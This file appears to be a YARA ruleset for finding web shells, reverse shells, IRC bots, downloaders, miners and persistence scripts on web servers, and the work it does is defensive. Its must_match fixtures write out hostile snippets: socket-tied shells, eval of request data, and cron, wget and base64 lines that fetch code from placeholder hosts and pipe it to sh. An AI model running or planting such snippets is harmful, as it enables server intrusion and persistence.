/* Perl, Python and shell scripts, and PHP inside of other files. */

rule script_connects_back {
  meta:
    id = "script/connects-back"
    title = "A script hands a shell to a network connection"
    family = "exec-misc"
    severity = "critical"
    confidence = "likely"
    description = "A perl, python or shell script opens a connection and ties a command interpreter to it."
    remedy = "Delete the file, then look for who placed it: restore the account from the last good backup."
    reference = "https://attack.mitre.org/techniques/T1505/003/"
    must_match = "#!/usr/bin/perl\n# inert\nuse Socket;\nconnect(S, $a);\nopen(STDIN, \">&S\");\nexec('/bin/sh -i');\n"
    must_match = "# inert\nimport socket,os,pty\ns=socket.socket()\nos.dup2(s.fileno(),0)\npty.spawn('/bin/sh')\n"
    must_not = "#!/usr/bin/perl\nuse Socket;\nconnect(S, $a);\nprint S 'GET / HTTP/1.0';\n"
  strings:
    $perl = /use\s{1,4}(IO::)?Socket/ 
    $tie = /open\s?\(\s?STD(IN|OUT|ERR)\s?,\s?['"](<|>)&/ nocase
    $sh = /(exec|system)\s?\(?\s?\{?\s?['"]\/?(bin\/)?(ba)?sh\b|\/bin\/(ba)?sh['"]?\s?-i/ nocase
    $python = "socket" fullword
    $dup = /os\.dup2\s?\(/
    $spawn = /(pty\.spawn|subprocess\.(call|Popen)|os\.(system|execl?v?p?))\s?\(\s?\[?\s?['"]\/bin\/(ba)?sh/
    $device = /(bash|sh)\s{1,3}-i\s{0,3}[>&0-9]{1,4}\s{0,3}\/dev\/tcp\/\d/
  condition:
    ($perl and $tie and $sh) or ($python and $dup and $spawn) or $device
}

rule php_in_picture {
  meta:
    id = "polyglot/php-in-picture"
    title = "A picture holds PHP that runs code"
    family = "polyglot"
    severity = "critical"
    confidence = "certain"
    description = "The file begins as a picture, and PHP that reads the request or runs code is hidden inside."
    remedy = "Delete the file, then look for who placed it: restore the account from the last good backup."
    reference = "https://attack.mitre.org/techniques/T1505/003/"
    must_match = "GIF89a;<?php exit; eval($_POST['inert']);"
    must_match = "\xff\xd8\xff\xe0__JFIF<?php exit; system($x);"
    must_not = "GIF89a <?xml version='1.0'?> \x00\x01"
  strings:
    $php = /<\?(php|=|\s)/ nocase
    $does = /(\$_(GET|POST|REQUEST|COOKIE|FILES|SERVER)\b|[^\w](eval|assert|system|passthru|shell_exec|exec|base64_decode|gzinflate|move_uploaded_file|copy|include|file_get_contents|file_put_contents|fwrite|create_function|preg_replace|curl_exec|str_rot13)\s{0,2}[('"])/ nocase
  condition:
    (uint32be(0) == 0x47494638 or uint16be(0) == 0xFFD8 or uint32be(0) == 0x89504E47 or uint16be(0) == 0x424D) and $php and for any of ($does) : ($ in (@php..@php + 20000))
}

rule code_in_picture_header {
  meta:
    id = "polyglot/code-in-picture-header"
    title = "The header of a picture holds code for a reader elsewhere"
    family = "polyglot"
    severity = "critical"
    confidence = "likely"
    description = "A text field of a JPEG holds an expression with the e modifier, or encoded code: another file reads it as picture data and runs it."
    remedy = "Delete the file, then look for who placed it: restore the account from the last good backup."
    reference = "https://attack.mitre.org/techniques/T1027/003/"
    must_match = "\xff\xd8\xff\xe1\x00Exif\x00\x00/.*/e\x00eval(base64_decode('aW5lcnRpbmVydA=='));"
    must_not = "\xff\xd8\xff\xe1__Exif__Canon evaluation 64"
  strings:
    $modifier = /\/\.\*\/[a-z]{0,3}e/
    $code = /\b(eval|assert|system|create_function)\s?\(\s?(base64_decode|gzinflate|stripslashes|\$_)/ nocase
  condition:
    uint16be(0) == 0xFFD8 and $code and ($modifier or for any of ($code) : ($ in (0..4096)))
}

rule script_runs_request {
  meta:
    id = "script/runs-request"
    title = "A Perl or Python page runs what the visitor sends as a command"
    family = "exec-misc"
    severity = "critical"
    confidence = "likely"
    description = "A CGI script gives a field of the request to the shell: a web shell that needs no PHP."
    remedy = "Delete the file, then look for who placed it: restore the account from the last good backup."
    reference = "https://attack.mitre.org/techniques/T1505/003/"
    must_match = "#!/usr/bin/perl\n# inert\nuse CGI; my $q = new CGI; my $cmd = $q->param('cmd'); print `$cmd 2>&1`;\n"
    must_match = "#!/usr/bin/perl\n# inert\nsystem($ENV{'QUERY_STRING'});\n"
    must_match = "#!/usr/bin/python\n# inert\nimport cgi, os\nform = cgi.FieldStorage()\nos.popen(form.getvalue('cmd'))\n"
    must_match = "#!/usr/bin/perl\n# inert\nuse CGI; my $q = CGI->new; print `@{[$q->param('c')]}`;\n"
    must_match = "#!/bin/sh\n# inert\neval \"$(echo $QUERY_STRING | sed 's/+/ /g')\"\n"
    must_not = "#!/bin/sh\neval `dircolors`\necho \"$QUERY_STRING\"\n"
    must_not = "#!/usr/bin/perl\nuse CGI; my $page = param('page'); print `/usr/bin/uptime`; open(MAIL, \"|$mailprog\");\n"
    must_not = "#!/usr/bin/python\nimport cgi, subprocess\nform = cgi.FieldStorage()\nsubprocess.run(['git', 'pull'])\n"
  strings:
    $bin = "/bin/" private
    $perl = /^#!\s?[^\n]{1,60}perl/ nocase
    $python = /^#!\s?[^\n]{1,60}python/ nocase
    $direct = /\b(system|exec|eval|qx)\s{0,2}[({]?\s{0,2}["'`]?\$ENV\{['"]?(QUERY_STRING|HTTP_\w{1,30})/
    $field = /\$(\w{1,20})\s{0,2}=\s{0,2}[^;\n]{0,60}(param\s?\(|\$(in|FORM|form|query|input|CGI)\{)\s{0,2}['"]?(cmd|command|exec|execute|shell|run|perintah|komut)\b/ nocase
    $run = /(\b(system|exec|qx)\s{0,2}[({]\s{0,2}["']?\$\w{1,20}\b|[=\s(]`\s{0,2}(cd[^`;]{0,60}[;&]{1,2}\s{0,2})?\$\w{1,20}|\bopen\s{0,2}\(\s{0,2}\w{1,20}\s{0,2},\s{0,2}["']\(?\s{0,2}(cd[^"';]{0,60};\s{0,2})?\$\w{1,20}[^"'\n]{0,30}\|)/
    $inline = /(\b(system|exec|qx)\s{0,2}[({]?|`)[^`;\n]{0,60}(->|\b)param\s?\(/
    $asked = /\b(eval|(ba|da)?sh\s{1,2}-c)\b[^\n;|]{0,80}\$\{?QUERY_STRING\b/
    $shell = /^#!\s?[^\n]{1,40}\/(ba|da|z|k)?sh\b/
    $popen = /\b(os\.(popen\d?|system)|subprocess\.\w{2,14}|commands\.getoutput)\s{0,2}\(\s{0,2}([\w.()]{1,40}(\.getvalue\s?\(|\.getfirst\s?\(|\[['"])|request\.(args|form|values|GET|POST))/
  condition:
    filesize < 512KB and $bin in (0..40) and (($perl at 0 and ($direct or $inline or ($field and $run))) or ($shell at 0 and $asked) or ($python at 0 and $popen))
}

rule bot_takes_orders {
  meta:
    id = "script/takes-orders-from-a-chat"
    title = "A script waits in a chat room for commands to run"
    family = "bot-ddos"
    severity = "critical"
    confidence = "likely"
    description = "The script logs in at an IRC server, answers its questions, and gives what is said there to the shell: a remote-controlled bot."
    remedy = "Delete the file, then look for who placed it: restore the account from the last good backup."
    reference = "https://attack.mitre.org/techniques/T1071/"
    must_match = "#!/usr/bin/perl\n# inert\nprint $s \"NICK $n\"; if (/PRIVMSG (.*)/) { my @o = `$1`; } print $s \"PONG $1\";\n"
    must_not = "<?php class Irc { function nick($n) { $this->send(\"NICK $n\"); $this->send('PONG'); $this->send('PRIVMSG'); } }"
  strings:
    $nick = /["']NICK\s/
    $pong = "PONG" fullword
    $said = "PRIVMSG" fullword
    $run = /([=\s(]`\s{0,2}\$\w{1,20}|\b(shell_exec|system|exec|passthru|popen|qx|os\.popen|os\.system|subprocess\.\w{2,12})\s{0,2}[({]\s{0,2}["']?(\$|\w{1,12}\[))/
    $flood = /\b(udp|tcp|syn|http|slow)_?(flood|attack|ddos)|\bportscan\b|["']!?(udpflood|tcpflood|httpflood)/ nocase
  condition:
    filesize < 512KB and $nick and $pong and $said and ($run or $flood)
}

rule fetched_and_run_again {
  meta:
    id = "script/fetches-and-runs"
    title = "A script fetches a program from a bare address or a timer and runs it"
    family = "downloader"
    severity = "high"
    confidence = "likely"
    description = "A shell script takes code from an address without a name, out of base64 or by a timer that it sets itself, and gives it to the shell, or digs for coins."
    remedy = "Delete the file, then look for who placed it: restore the account from the last good backup."
    reference = "https://attack.mitre.org/techniques/T1105/"
    must_match = "#!/bin/sh\n# inert\n(crontab -l; echo '*/5 * * * * wget -q -O - http://inert.example.test/u | sh') | crontab -\n"
    must_match = "#!/bin/sh\n# inert\nwget http://192.0.2.1/x -O /tmp/.x; chmod +x /tmp/.x\n"
    must_match = "#!/bin/sh\n# inert\necho 'aW5lcnRpbmVydGluZXJ0aW5lcnQ=' | base64 -d | sh\n"
    must_match = "#!/bin/sh\n# inert\necho PD9waHAgZXhpdDs= | base64 -d > index.php\n"
    must_match = "#!/bin/sh\n# inert\nnohup ./x -o stratum+tcp://inert.example.test:3333 &\n"
    must_match = "#!/bin/sh\n# inert\n./x -o inert.example.test:3333 -u inert -p x --donate-level 1 -B\n"
    must_not = "#!/bin/sh\ncurl -sS https://example.test/installer | php\n(crontab -l; echo '0 3 * * * /usr/bin/backup') | crontab -\n"
    must_not = "#!/bin/sh\nwget https://example.test/tool.tar.gz && tar xzf tool.tar.gz && chmod +x tool/run\n"
  strings:
    $shell = /^#!\s?\/(usr\/)?bin\/(env )?(ba|da|z|k)?sh\b/
    $timer = /\*\s\*[^\n]{1,120}\b(curl|wget|lwp-download|fetch)\b[^\n|]{4,300}\|\s{0,2}(ba|da|z)?sh\b/
    $bare = /\b(curl|wget)\b[^\n]{0,80}https?:\/\/\d{1,3}(\.\d{1,3}){3}[^\n]{0,160}(\|\s{0,2}(ba|da|z)?sh\b|chmod\s{1,3}(\+x|[0-7]*7[0-7]*))/
    $unpacked = /\becho\s{1,3}(-n\s)?["']?[A-Za-z0-9+\/=]{16,4000}["']?\s{0,2}\|\s{0,2}base64\s{1,2}(-d|-D|--decode)\s{0,2}\|\s{0,2}(ba|da|z)?sh\b/
    $planted = /\becho\s{1,3}(-n\s)?["']?PD9[wX][A-Za-z0-9+\/=]{8,4000}["']?\s{0,2}\|\s{0,2}base64\s{1,2}(-d|-D|--decode)\s{0,2}>/
    $digs = "stratum+tcp://"
    $mines = "--donate-level"
  condition:
    $shell at 0 and filesize < 128KB and any of ($timer, $bare, $unpacked, $planted, $digs, $mines)
}

rule encoded_script_run {
  meta:
    id = "script/encoded-and-run"
    title = "Encoded Python or Perl is decoded and run"
    family = "obfuscated-dropper"
    severity = "high"
    confidence = "likely"
    description = "A script carries its real code in base64 or packed, and runs what the decoder gives."
    remedy = "Delete the file, then look for who placed it: restore the account from the last good backup."
    reference = "https://attack.mitre.org/techniques/T1027/"
    must_match = "# inert\nimport base64\nexec(base64.b64decode('aW5lcnRpbmVydGluZXJ0'))\n"
    must_match = "#!/usr/bin/perl\n# inert\nuse MIME::Base64; eval(decode_base64('aW5lcnRpbmVydGluZXJ0'));\n"
    must_not = "import base64\nimage = base64.b64decode('iVBORw0KGgoAAAANSUhEUg==')\nexec(open('setup.py').read())\n"
  strings:
    $python = /\bexec\s{0,2}\(\s{0,2}(compile\s?\(\s?)?(zlib\.decompress|marshal\.loads|base64\.b(64|32|85)decode|bytes\.fromhex|codecs\.decode|__import__\s?\(\s?['"](zlib|base64|marshal|codecs)['"])/
    $perl = /\beval\s{0,2}\(?\s{0,2}(decode_base64|MIME::Base64::decode|unpack\s?\(?\s?(u|['"][uH]\*?['"]))\s{0,2}[(,]/
  condition:
    any of them and filesize < 1MB
}

rule other_server_pages {
  meta:
    id = "script/asp-or-jsp-shell"
    title = "A page for another kind of server runs what the visitor sends"
    family = "oneliner-req"
    severity = "high"
    confidence = "likely"
    description = "An ASP, ASPX or JSP page gives a request value to eval or to the shell: placed by someone who tries every kind of server."
    remedy = "Delete the file, then look for who placed it: restore the account from the last good backup."
    reference = "https://attack.mitre.org/techniques/T1505/003/"
    must_match = "<%' inert\neval request(\"a\")%>"
    must_match = "<%/* inert */ Runtime.getRuntime().exec(request.getParameter(\"a\"));%>"
    must_match = "<%@ Page Language=\"Jscript\"%><%/* inert */ eval(Request.Item[\"a\"],\"unsafe\");%>"
    must_not = "<% Response.Write(Request(\"a\")) %>"
  strings:
    $page = "<%" private
    $asp1 = "eval request(" nocase
    $asp2 = "eval(request(" nocase
    $asp3 = "execute request(" nocase
    $asp4 = "execute(request(" nocase
    $asp5 = "executeglobal request(" nocase
    $asp6 = "executeglobal(request(" nocase
    $aspx = /\beval\s{0,2}\(\s{0,2}Request(\.(Item|Form|QueryString))?\s{0,2}\[[^\]]{1,30}\][^)]{0,20}["']unsafe["']/ nocase
    $jsp = /getRuntime\s{0,2}\(\s{0,2}\)\s{0,2}\.\s{0,2}exec\s{0,2}\(\s{0,2}request\.getParameter/
  condition:
    $page and any of ($asp*, $jsp)
}

rule shell_through_a_relay {
  meta:
    id = "script/shell-through-a-relay"
    title = "A script installs a hidden way in through a relay"
    family = "exec-misc"
    severity = "critical"
    confidence = "likely"
    description = "A shell script fetches gs-netcat, which waits for its owner behind every firewall, and starts it again at each login or by a timer."
    remedy = "Stop the program, delete the script and what it started; then look at the account's timers, start files and keys."
    reference = "https://attack.mitre.org/techniques/T1572/"
    must_match = "#!/bin/bash\n# inert\ncurl -fsSL https://inert.example.test/gs-netcat -o ~/.x/inert; chmod 700 ~/.x/inert\n"
    must_match = "#!/bin/sh\n# inert\nexport GS_SECRET=inert; ./inert -liqD; echo './inert' >> ~/.profile\n"
    must_not = "#!/bin/sh\n# gs-netcat is not allowed here\nexit 1\n"
  strings:
    $shell = /^#!\s?\/(usr\/)?bin\/(env )?(ba|da|z|k)?sh\b/
    $relay = "gs-netcat" fullword
    $secret = /\bGS_(SECRET|ARGS|UNDO|HIDDEN_NAME)\s?=/
    $stays = /\bchmod\s{1,3}(\+x|[0-7]*7[0-7]*)|\bcrontab\b|>>\s{0,3}["']?(~|\$HOME|\$\{HOME\})\/\.(bashrc|profile|bash_profile|zshrc)|\bnohup\b/
  condition:
    $shell at 0 and filesize < 256KB and any of ($relay, $secret) and $stays
}

rule shell_puts_files_back {
  meta:
    id = "script/puts-files-back"
    title = "A shell script puts removed pages back again and again"
    family = "exec-misc"
    severity = "critical"
    confidence = "likely"
    description = "A loop that sleeps in between writes PHP into the sites, and makes it unchangeable or as old as its neighbours: whoever deletes a backdoor finds it back."
    remedy = "Stop the program first, then delete the script and what it wrote; look for the timer that starts it."
    reference = "https://attack.mitre.org/techniques/T1543/"
    must_match = "#!/bin/bash\n# inert\nwhile true; do cp /tmp/.inert a/inert.php; chmod 444 a/inert.php; sleep 5; done\n"
    must_match = "#!/bin/sh\n# inert\nwhile :; do cat .inert > index.php; touch -r wp-login.php index.php; sleep 1; done\n"
    must_not = "#!/bin/bash\nwhile true; do php artisan queue:work; sleep 5; done\ncp config.sample.php config.php; chmod 640 config.php\n"
    must_not = "#!/bin/bash\nwhile ! mysqladmin ping; do sleep 1; done\ncp settings.php default/settings.php\nchmod 444 default/settings.php\n"
  strings:
    $shell = /^#!\s?\/(usr\/)?bin\/(env )?(ba|da|z|k)?sh\b/
    $loop = /\bwhile\s{1,3}(true|:|\[\s{0,2}1\s{0,2}\]|\(\(\s?1\s?\)\))/
    $write = /(\b(cp|cat|echo|printf|base64|mv|install)\b[^\n;]{1,200}\.php\b)/
    $keep = /\bchattr\s{1,3}\+i\b|\btouch\s{1,3}(-[a-z]{1,3}\s{1,3})?-(r|d|t)\b|\bchmod\s{1,3}0?[45][0-5]{2}\b/
    $sleep = /\b(sleep|usleep)\s{1,3}[\d$.]/
  condition:
    $shell at 0 and filesize < 64KB and for any of ($loop) : ($write in (@loop..@loop + 1500) and $keep in (@loop..@loop + 1500) and $sleep in (@loop..@loop + 1500))
}

rule page_of_the_server_runs_commands {
  meta:
    id = "script/server-side-include-runs"
    title = "A page lets the web server fetch or run what others say"
    family = "exec-misc"
    severity = "critical"
    confidence = "likely"
    description = "A server side include gives the shell a part of the request, or has it fetch a file: a web shell without a script."
    remedy = "Delete the file, then look for who placed it; forbid IncludesExec for the sites."
    reference = "https://attack.mitre.org/techniques/T1505/003/"
    must_match = "<!--# inert --><!--#exec cmd=\"$QUERY_STRING_UNESCAPED\" -->"
    must_match = "<!--# inert --><!--#exec cmd='wget http://192.0.2.1/inert -O inert.php'-->"
    must_not = "<!--#exec cmd=\"date +%Y\" --><!--#exec cgi=\"/cgi-bin/counter.pl\" -->"
  strings:
    $run = /<!--#exec\s{1,4}cmd\s?=\s?["'][^"']{0,200}(\$\{?(HTTP_|QUERY_STRING|PATH_INFO|REQUEST_URI|DOCUMENT_ARGS)|\b(wget|curl|lwp-download|fetch|base64|nc|perl|python\d?|chmod)\s)/ nocase
  condition:
    $run and filesize < 1MB
}
